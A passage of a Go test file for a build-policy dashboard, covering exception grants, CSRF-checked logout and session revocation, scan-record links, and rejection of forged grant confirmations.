	w := f.do("POST", "/decisions/"+nodeBuiltID+"/exceptions", grantValues(csrf, nil), c)
	if w.Code != http.StatusBadGateway || !strings.Contains(text(w.Body.String()), "could not be stored: buildpolicyexceptions.buildguard.dev is forbidden") {
		t.Errorf("POST with a failing granter = %d\n%s", w.Code, text(w.Body.String()))
	}
}

func TestGrantOff(t *testing.T) {
	f := newFixture(t)
	f.h.c.Granter, f.h.c.GrantOff = nil, "policies come from a file and no --exceptions-file is set"
	c, csrf := f.login("alice-token")
	page := f.do("GET", "/decisions/"+nodeBuiltID, nil, c).Body.String()
	if strings.Contains(page, `class="grant"`) || !strings.Contains(page, "Granting exceptions is off: policies come from a file") {
		t.Errorf("detail page with granting off:\n%s", text(page))
	}
	if w := f.do("POST", "/decisions/"+nodeBuiltID+"/exceptions", grantValues(csrf, nil), c); w.Code != http.StatusForbidden {
		t.Errorf("POST with granting off = %d, want 403", w.Code)
	}
}

func TestLogout(t *testing.T) {
	f := newFixture(t)
	c, csrf := f.login("alice-token")
	if w := f.do("POST", "/logout", url.Values{"csrf": {"wrong"}}, c); w.Code != http.StatusForbidden {
		t.Errorf("logout with a wrong CSRF token = %d, want 403", w.Code)
	}
	w := f.do("POST", "/logout", url.Values{"csrf": {csrf}}, c)
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/login" {
		t.Fatalf("logout = %d %q", w.Code, w.Header().Get("Location"))
	}
	cs := w.Result().Cookies()
	if len(cs) != 1 || cs[0].Name != CookieName || cs[0].MaxAge >= 0 {
		t.Errorf("logout cookies %v, want the session cookie removed", cs)
	}
	// A copy of the cookie taken before logout no longer works.
	if w := f.do("GET", "/", nil, c); w.Code != http.StatusSeeOther {
		t.Errorf("GET / with the logged-out cookie = %d, want a redirect to the login", w.Code)
	}
	if w := f.do("POST", "/decisions/"+nodeBuiltID+"/exceptions", grantValues(csrf, nil), c); w.Code != http.StatusUnauthorized || len(f.granter.grants) != 0 {
		t.Errorf("grant with the logged-out cookie = %d, want 401", w.Code)
	}
	// Other sessions go on. (fixedRandom would give the new one the
	// same ID.)
	f.h.c.Random = cryptorand.Reader
	c2, _ := f.login("alice-token")
	if w := f.do("GET", "/", nil, c2); w.Code != http.StatusOK {
		t.Errorf("GET / with a new session = %d, want 200", w.Code)
	}
}

func TestRevocationsBounded(t *testing.T) {
	var r revocations
	for i := range maxRevoked + 10 {
		r.revoke(session{ID: fmt.Sprint(i), Expires: t0.Unix() + int64(i)}, t0)
	}
	if len(r.ids) != maxRevoked {
		t.Errorf("%d revocations kept, want %d", len(r.ids), maxRevoked)
	}
	if r.revoked(session{ID: "0"}) || !r.revoked(session{ID: fmt.Sprint(maxRevoked + 9)}) {
		t.Error("the revocation expiring first was not the one forgotten")
	}
}

func TestNewChecksConfig(t *testing.T) {
	st, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "x.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for name, c := range map[string]Config{
		"no store":         {Authenticator: fakeAuth{}, Authorizer: AllowAll{}},
		"no authenticator": {Store: st, Authorizer: AllowAll{}},
		"no authorizer":    {Store: st, Authenticator: fakeAuth{}},
		"short key":        {Store: st, Authenticator: fakeAuth{}, Authorizer: AllowAll{}, Key: []byte("short")},
	} {
		if _, err := New(c); err == nil {
			t.Errorf("New(%s) = nil error", name)
		}
	}
}

func jsonB64(s string) ([]byte, error) { return base64.RawURLEncoding.DecodeString(s) }

func b64JSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return base64.RawURLEncoding.EncodeToString(b)
}

// firstDiff describes the first line where got differs from want.
func firstDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < max(len(wl), len(gl)); i++ {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return fmt.Sprintf("line %d:\n want %q\n  got %q", i+1, w, g)
		}
	}
	return "no line differs"
}

// TestScanDecisionLinks: the IDs of audit scans' records hold a slash
// ("<uid>/scan-…"); the list, the detail page, the raw record and the
// grant form must still reach them.
func TestScanDecisionLinks(t *testing.T) {
	f := newFixture(t)
	d := testDecisions()[0]
	d.ID = "0d1e5a7c-5555-4a4a-9b9b-000000000005/scan-20261201T115500Z"
	d.Operation, d.Verdict = "SCAN", records.VerdictWouldDeny
	d.Time = t0.Add(-time.Minute)
	if err := f.store.AddDecision(t.Context(), d); err != nil {
		t.Fatal(err)
	}
	c, csrf := f.login("alice-token")
	list := f.do("GET", "/decisions", nil, c).Body.String()
	m := regexp.MustCompile(`href="(/decisions/0d1e5a7c-5555[^"]*)"`).FindStringSubmatch(list)
	if m == nil {
		t.Fatalf("the list has no link to %s\n%s", d.ID, list)
	}
	w := f.do("GET", m[1], nil, c)
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), d.ID) {
		t.Fatalf("GET %s = %d, want the detail page of %s\n%s", m[1], w.Code, d.ID, text(w.Body.String()))
	}
	page := w.Body.String()
	raw := regexp.MustCompile(`href="(/decisions/[^"]*/raw)"`).FindStringSubmatch(page)
	if raw == nil {
		t.Fatal("no raw link on the detail page")
	}
	if w := f.do("GET", raw[1], nil, c); w.Code != http.StatusOK || !strings.Contains(w.Body.String(), `"id": "`+d.ID+`"`) {
		t.Errorf("GET %s = %d, want the raw record of %s", raw[1], w.Code, d.ID)
	}
	action := regexp.MustCompile(`action="(/decisions/[^"]*/exceptions)"`).FindStringSubmatch(page)
	if action == nil {
		t.Fatal("no grant form on the detail page")
	}
	w = f.do("POST", action[1], grantValues(csrf, nil), c)
	if w.Code != http.StatusSeeOther || len(f.granter.grants) != 1 || f.granter.grants[0].DecisionID != d.ID {
		t.Fatalf("POST %s = %d, grants %+v; want a grant for %s\n%s", action[1], w.Code, f.granter.grants, d.ID, text(w.Body.String()))
	}
	if loc := w.Header().Get("Location"); f.do("GET", loc, nil, c).Code != http.StatusOK {
		t.Errorf("the redirect after granting, %s, does not reach the detail page", loc)
	}
}

// TestGrantedNotForged: the confirmation after a grant is signed for the
// session; a link with ?granted= made elsewhere says nothing.
func TestGrantedNotForged(t *testing.T) {
	f := newFixture(t)
	c, csrf := f.login("alice-token")
	for _, target := range []string{
		"/decisions/" + nodeBuiltID + "?granted=shop%2Freview-1",
		"/decisions/" + nodeBuiltID + "?granted=shop%2Freview-1&sig=AAAA",
	} {
		if page := text(f.do("GET", target, nil, c).Body.String()); strings.Contains(page, "granted.") {
			t.Errorf("GET %s confirms a grant that was not made:\n%s", target, page)
		}
	}
	w := f.do("POST", "/decisions/"+nodeBuiltID+"/exceptions", grantValues(csrf, nil), c)
	loc := w.Header().Get("Location")
	if page := text(f.do("GET", loc, nil, c).Body.String()); !strings.Contains(page, "Exception shop/review-1 granted.") {
		t.Errorf("GET %s does not confirm the grant", loc)
	}
	// Another decision's page, or another exception's name, with that
	// signature says nothing.
	other := strings.Replace(loc, nodeBuiltID, "0d1e5a7c-3333-4a4a-9b9b-000000000003", 1)
	renamed := strings.Replace(loc, "review-1", "review-2", 1)
	for _, target := range []string{other, renamed} {
		if page := text(f.do("GET", target, nil, c).Body.String()); strings.Contains(page, "granted.") {
			t.Errorf("GET %s confirms a grant with another's signature", target)
		}
	}
}
